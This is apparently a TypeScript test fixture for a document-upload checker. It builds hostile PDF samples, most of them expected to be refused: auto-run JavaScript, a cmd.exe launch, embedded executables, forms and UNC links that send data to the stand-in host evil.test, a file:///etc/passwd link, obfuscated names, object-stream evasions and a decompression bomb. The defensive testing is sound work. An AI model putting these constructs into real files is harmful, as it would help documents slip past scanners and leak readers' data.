import { deflateSync } from "node:zlib";
import { type HostileFile, type Outcome, eicar, refused } from "./hostile-file.ts";
import { hostileLinks } from "./hostile-links.ts";
import { aJpeg, packed } from "./picture-parts.ts";
import { nastyDocuments } from "./nasty-documents.ts";
import { aPdf, aStream, anObject, packedObjects } from "./pdf-parts.ts";

type Contents = Record<string, () => Buffer | Promise<Buffer>>;
const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
const packedScript = (change?: Parameters<typeof packedObjects>[1]): Buffer =>
  aPdf("/OpenAction 20 0 R", { more: [packedObjects([script, "<< /Kind 1 >>"], change)] });

const group = (outcome: Outcome, contents: Contents, name = "notice.pdf"): HostileFile[] =>
  Object.entries(contents).map(([title, content]) => ({ title, name, content, outcome }));

// PNG's row filter, which stores each row as the difference to the one before: names are not readable in it.
function rowsOfDifferences(bytes: Buffer): Buffer {
  const columns = 4;
  const rows = Math.ceil(bytes.length / columns);
  const whole = Buffer.concat([bytes, Buffer.alloc(rows * columns - bytes.length, 0x20)]);
  const out: number[] = [];
  for (let row = 0; row < rows; row += 1) {
    out.push(2);
    for (let column = 0; column < columns; column += 1) {
      const at = row * columns + column;
      out.push(((whole[at] ?? 0) - (row === 0 ? 0 : (whole[at - columns] ?? 0)) + 256) % 256);
    }
  }
  return Buffer.from(out);
}

const nasty = (wanted: string): Buffer =>
  nastyDocuments.find(({ title }) => title === wanted)?.content(490_000) ?? Buffer.alloc(0);

export const hostileDocuments: readonly HostileFile[] = [
  ...hostileLinks,
  ...group(refused("file_empty"), { "an empty document": () => Buffer.alloc(0) }),
  ...group(refused("document_kind_not_taken"), {
    "a page, called .pdf": () => Buffer.from("<!doctype html><script>alert(1)</script>"),
    "a picture for a document": () => aJpeg(),
    "a Word file": () =>
      Buffer.concat([Buffer.from("PK\x03\x04\x14\0[Content_Types].xml"), Buffer.alloc(500)]),
    "a page in front of a PDF": () => Buffer.concat([Buffer.from("<script>alert(1)</script>"), aPdf()]),
    "an archive in front of a PDF": () => Buffer.concat([Buffer.from("PK\x03\x04"), aPdf()]),
  }),
  ...group(refused("document_damaged"), {
    "half a PDF": () => aPdf().subarray(0, 300),
    "a PDF without an end": () => Buffer.from("%PDF-1.7\nhello"),
    "a PDF with an archive behind it": () =>
      Buffer.concat([aPdf(), Buffer.from("PK\x03\x04"), Buffer.alloc(5_000)]),
    "a PDF with a page behind it": () =>
      Buffer.concat([aPdf(), Buffer.from(`<script>alert(1)</script>${" ".repeat(2_000)}`)]),
  }),
  ...group(refused("document_active"), {
    "a PDF that runs a script when it is opened": () => aPdf(`/OpenAction ${script}`),
    "a script whose name is written in numbers": () =>
      aPdf("/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"),
    "a script whose name is all numbers": () =>
      aPdf(
        `/OpenAction << /S /${[..."JavaScript"].map((c) => `#${c.charCodeAt(0).toString(16)}`).join("")} >>`,
      ),
    "a list of scripts": () => aPdf("/Names << /JavaScript << /Names [(a) 9 0 R] >> >>"),
    "a script when the page is left": () => aPdf("", { more: [anObject(9, `<< /AA << /C ${script} >> >>`)] }),
    "a PDF that starts a program": () => aPdf("/OpenAction << /S /Launch /F (cmd.exe) /Win << /P (/c) >> >>"),
    "a PDF with a file inside": () => aPdf("/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>"),
    "a PDF with a file pinned to the page": () =>
      aPdf("", { more: [anObject(9, "<< /Subtype /FileAttachment /FS << /EF << /F 10 0 R >> >> >>")] }),
    "a stream that is a file": () =>
      aPdf("", { more: [anObject(9, aStream("/Type /EmbeddedFile", Buffer.from("MZ")))] }),
    "a form of the kind that is a program": () => aPdf("/AcroForm << /XFA 9 0 R >>"),
    "a film with controls": () => aPdf("", { more: [anObject(9, "<< /Subtype /RichMedia >>")] }),
    "a film that runs a script": () => aPdf("/OpenAction << /S /Rendition /JS (app.alert(1)) >>"),
    "a form that sends what is typed into it": () =>
      aPdf("", { more: [anObject(9, "<< /S /SubmitForm /F << /FS /URL /F (https://evil.test) >> >>")] }),
    "such a form whose name is written in numbers": () =>
      aPdf("", { more: [anObject(9, "<< /S /Submit#46orm /F (https://evil.test) >>")] }),
    "such a form among packed objects": () =>
      aPdf("", { more: [packedObjects(["<< /S /Submit#46#6frm /F (https://evil.test) >>"])] }),
    "a form that reads another file": () =>
      aPdf("", { more: [anObject(9, "<< /S /ImportData /F (a.fdf) >>")] }),
    "a step into another file, on a server that hears who opens this one": () =>
      aPdf("/OpenAction << /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
    "such a step whose name is written in numbers": () =>
      aPdf("/OpenAction << /S /#47oTo#52 /F (//evil.test/share/a.pdf) >>"),
    "such a step among packed objects": () =>
      aPdf("/OpenAction 20 0 R", { more: [packedObjects(["<< /S /GoTo#52 /F (a.pdf) >>"])] }),
    "a step into a file inside": () => aPdf("/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>"),
    "such a step among packed objects, into a file inside": () =>
      aPdf("", { more: [packedObjects(["<< /S /GoT#6fE /T << /R /C >> >>"])] }),
    "a film that lies elsewhere": () =>
      aPdf("", { more: [anObject(9, "<< /Subtype /Movie /Movie << >> >>")] }),
    "a model that runs a script": () =>
      aPdf("", { more: [anObject(9, "<< /Type /3D /OnInstantiate 10 0 R >>")] }),
    "a part that lies on a server": () =>
      aPdf("", { more: [anObject(9, aStream("/F (\\\\\\\\evil.test\\\\share\\\\a)", Buffer.from("x")))] }),
    "a part on a server whose name is written in octal": () =>
      aPdf("", { more: [anObject(9, "<< /Type /Filespec /UF (\\134\\134evil.test\\134share) >>")] }),
    "a part on a server whose name is written in numbers": () =>
      aPdf("", { more: [anObject(9, "<< /Type /Filespec /F <5c5c 6576696c2e74657374> >>")] }),
    "a part on a server whose name is written in two bytes a letter": () =>
      aPdf("", { more: [anObject(9, "<< /Type /Filespec /UF <feff005c005c006500760069006c> >>")] }),
    "a part on a server, among packed objects": () =>
      aPdf("", { more: [packedObjects(["<< /Type /Filespec /F (//evil.test/share) >>"])] }),
    "a link that is a script": () =>
      aPdf("", { more: [anObject(9, "<< /S /URI /URI (java\\163cript:alert\\(1\\)) >>")] }),
    "a link to a file of the reader's": () =>
      aPdf("", { more: [anObject(9, "<< /S /URI /URI (file:///etc/passwd) >>")] }),
    "a script packed with other objects": () => packedScript(),
    "a packed script whose name is written in numbers": () =>
      aPdf("", { more: [packedObjects(["<< /S /Java#53cript /JS (1) >>"])] }),
    "packed objects that do not say what they are": () =>
      packedScript({ dictionary: "/N 2 /First 12 /Filter /FlateDecode" }),
    "packed objects that say it in numbers": () =>
      packedScript({ dictionary: "/Type /Obj#53tm /N 2 /First 12 /Filter /FlateDecode" }),
    "packed objects that are not packed": () =>
      packedScript({ dictionary: "/Type /ObjStm /N 2 /First 12", pack: (objects) => objects }),
    "a script in what only looks like data": () =>
      aPdf("", {
        more: [anObject(9, aStream("/Type /XObject", Buffer.from(`\xff\xd8${script}`, "latin1")))],
      }),
  }),
  ...group(refused("document_protected"), {
    "a PDF under lock": () => aPdf("", { trailer: "/Encrypt 9 0 R" }),
    "a lock whose name is written in numbers": () => aPdf("", { trailer: "/#45ncrypt 9 0 R" }),
  }),
  ...group(refused("document_not_checked"), {
    "packed objects behind a word that seems to end them": () =>
      packedScript({ dictionary: "/Type /ObjStm /N 2 /First 12 /Filter /FlateDecode /X (1 0 obj)" }),
    "packed objects whose word for it stands where no object is": () =>
      packedScript({
        dictionary: "/Type /ObjStm /N 2 /First 12 /Filter /ASCIIHexDecode /X (1 0 obj)",
        pack: (objects) => Buffer.from(objects.toString("hex")),
      }),
    "packed objects that say in a text how they are packed": () =>
      packedScript({
        dictionary: "/Type /ObjStm /N 2 /First 12 /X (/Filter /FlateDecode) /Filter /ASCIIHexDecode",
        pack: (objects) => Buffer.from(objects.toString("hex")),
      }),
    "packed objects that say in a comment how they are packed": () =>
      packedScript({
        dictionary: "/Type /ObjStm /N 2 /First 12 %/Filter /FlateDecode\n/Filter /ASCIIHexDecode",
        pack: (objects) => Buffer.from(objects.toString("hex")),
      }),
    "packed objects that do not say so, packed in another way": () =>
      packedScript({
        dictionary: "/N 2 /First 12 /X (1 0 obj) /Filter /ASCIIHexDecode",
        pack: (objects) => Buffer.from(objects.toString("hex")),
      }),
    "packed objects behind a comment": () =>
      aPdf("", {
        more: [
          Buffer.concat([
            Buffer.from("9 0 obj % (\n<< /Type /ObjStm /N 1 /First 5 /Filter /LZWDecode >>\nstream\n"),
            Buffer.from("\x80\x0b\x60\x50\nendstream\nendobj\n", "latin1"),
          ]),
        ],
      }),
    "packed objects that are said to be elsewhere": () =>
      aPdf("", { more: [anObject(9, "[ /Type /ObjStm ]")] }),
    "seventy thousand words that begin a stream": () => nasty("words that begin a stream"),
    "fifty thousand streams of broken packed data": () => nasty("streams of broken packed data"),
    "fifty thousand places that are written in odd ways": () => nasty("places of other files"),
    "objects that begin inside each other, a hundred thousand times": () =>
      aPdf("", { more: [Buffer.alloc(900_000, "1 0 obj<<")] }),
    "objects packed twice": () =>
      packedScript({
        dictionary: "/Type /ObjStm /N 2 /First 12 /Filter [/FlateDecode /FlateDecode]",
        pack: (objects) => deflateSync(deflateSync(objects)),
      }),
    "objects packed in another way": () =>
      packedScript({
        dictionary: "/Type /ObjStm /N 2 /First 12 /Filter /ASCIIHexDecode",
        pack: (objects) => Buffer.from(objects.toString("hex")),
      }),
    "objects packed as differences": () =>
      packedScript({
        dictionary:
          "/Type /ObjStm /N 2 /First 12 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
        pack: (objects) => deflateSync(rowsOfDifferences(objects)),
      }),
    "packed objects that lie in another file": () =>
      packedScript({ dictionary: "/Type /ObjStm /N 2 /First 12 /F (other.pdf) /FFilter /FlateDecode" }),
    "packed objects that are broken": () =>
      packedScript({ pack: (objects) => deflateSync(objects).fill(0xff, 10) }),
    "packed objects that unpack to 200 megabytes": async () => {
      const bomb = await packed(200_000_000, 0x20);
      return packedScript({ pack: () => bomb });
    },
  }),
  ...group(
    { kind: "kept" },
    {
      "a PDF that is a page as well": () =>
        aPdf("", { more: [Buffer.from("<script>alert(document.cookie)</script>\n")] }),
      "a PDF that is one page of drawings": () => aPdf("/OpenAction [3 0 R /Fit]"),
      "a PDF with links to the web": () =>
        aPdf("", {
          more: [
            packedObjects([
              "<< /S /URI /URI (https://boli.in/a) >>",
              "<< /S /URI /URI (mailto:a@boli.in) >>",
            ]),
          ],
        }),
      "a PDF with an outline and a form without sender": () =>
        aPdf("/Outlines 9 0 R /AcroForm << /Fields [] /NeedAppearances true >>", {
          more: [anObject(9, "<< /Type /Outlines /First 10 0 R /N (a) /Count 1 >>")],
        }),
      "a PDF whose objects are packed": () =>
        aPdf("", { more: [packedObjects(["<< /Kind 1 >>", "[1 2 3]"])] }),
    },
  ),
  ...group(refused("file_infected"), {
    "a PDF with the virus of the scanners": () => aPdf("", { more: [anObject(9, aStream("", eicar))] }),
  }),
];
